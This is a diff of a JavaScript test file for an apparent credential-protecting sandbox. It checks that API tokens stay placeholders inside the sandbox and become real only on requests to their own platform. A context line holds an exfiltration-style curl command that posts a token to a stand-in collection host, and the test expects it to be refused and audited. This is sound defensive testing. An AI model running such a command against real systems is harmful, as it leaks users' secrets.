@@ -109,6 +109,18 @@ describe("another platform's REST API (GitHub, gated by gh's ruleset)", () => {
 });
 
 describe('credentials on the wire', () => {
+  it('an API token is a placeholder inside even when no tool of its platform is covered, and real on the wire', async () => {
+    world = makeEgressWorld(USER, outside, terms);
+    const profile = join(world.root, 'psql-only.yaml');
+    writeFileSync(profile, 'name: psql-only\ncover: [psql]\n');
+    giveTo(world.user, profile);
+    world.put('me.json', JSON.stringify({ query: 'query { me { name } }' }));
+    const done = await world.startSandbox(`echo "inside: $RAILWAY_API_TOKEN"; curl -sS ${RAILWAY_URL} ${AUTH} -H 'Content-Type: application/json' --data-binary @me.json`, ['--profile', profile]).done;
+    expect(done.stdout, done.stderr).toMatch(/^inside: bgph_[0-9a-f]{24}\n/);
+    expect(done.stdout).not.toContain(REAL.railwayApiToken);
+    expect(outside.railway.received[0]?.headers.authorization).toBe(`Bearer ${REAL.railwayApiToken}`);
+  });
+
   it("a placeholder sent to another host is refused and audited as an exfiltration attempt", async () => {
     world = makeEgressWorld(USER, outside, terms);
     const done = await inSandbox(`curl -sS http://plain.example/collect ${AUTH}; echo; curl -sS http://plain.example/collect -d "t=$RAILWAY_API_TOKEN"; echo; curl -sS http://plain.example/hello`);
